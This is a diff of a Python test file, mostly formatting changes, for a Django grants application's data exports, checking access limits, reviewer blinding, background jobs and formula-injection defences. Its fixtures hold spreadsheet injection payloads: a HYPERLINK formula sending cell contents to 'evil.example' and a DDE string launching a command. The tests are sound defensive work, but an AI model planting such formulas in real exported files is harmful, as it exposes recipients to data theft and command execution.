@@ -1,5 +1,6 @@
 """Exports: limited to what the user may see, safe against formula injection, big ones in the
 background with progress, files served only to their owner once complete."""
+
 import csv
 import io
 
@@ -12,7 +13,6 @@ from applications.models import ApplicationState
 from reporting.data import exports
 from reporting.data.models import ExportJob
 from tests.factories import application_in_state
-
 from tests.reporting.builders import make_grant, pay_tranche
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -29,7 +29,9 @@ def data(call, grantee_org, grantee, outsider, manager, finance):
     grant = make_grant(call, grantee_org, grantee, title=FORMULA)
     pay_tranche(grant.tranches.get(position=1), manager, finance, reference="@SUM(1+1)")
     other_org = outsider.organisations.get()
-    other = application_in_state(call, other_org, outsider, state=ApplicationState.SUBMITTED, title="+cmd|' /C calc'!A0")
+    other = application_in_state(
+        call, other_org, outsider, state=ApplicationState.SUBMITTED, title="+cmd|' /C calc'!A0"
+    )
     return grant, other
 
 
@@ -61,6 +63,7 @@ def test_formulas_are_neutralised_in_csv_and_xlsx(data, manager):
 
 def test_each_user_exports_only_what_they_may_see(data, grantee, outsider, manager, donor_user, other_donor):
     grant, other = data
+
     def numbers(user, kind, column=0):
         return {row[column] for row in read_csv(exports.export_render(user, kind, "csv"))[1:]}
 
@@ -97,7 +100,9 @@ def test_blind_calls_hide_the_applicant_from_reviewers(call, grantee_org, grante
     assert grantee_org.legal_name not in exports.export_render(reviewer, "reviews", "csv").decode("utf-8-sig")
 
 
-def test_download_view_and_background_job(data, manager, grantee, client, monkeypatch, django_capture_on_commit_callbacks):
+def test_download_view_and_background_job(
+    data, manager, grantee, client, monkeypatch, django_capture_on_commit_callbacks
+):
     client.force_login(manager)
     response = client.get(reverse("data:export_download", args=["grants", "xlsx"]))
     assert response.status_code == 200 and response["Content-Disposition"].endswith('.xlsx"')
@@ -149,7 +154,8 @@ def test_exports_run_a_constant_number_of_queries(call, grantee_org, grantee, ma
 
 @pytest.mark.parametrize("declaration", ["none", "conflict"])
 def test_an_undeclared_or_conflicted_reviewer_exports_nothing_of_the_application(
-        call, grantee_org, grantee, make_user, grant_role, declaration):
+    call, grantee_org, grantee, make_user, grant_role, declaration
+):
     from django.utils import timezone
 
     from applications.review.models import Review
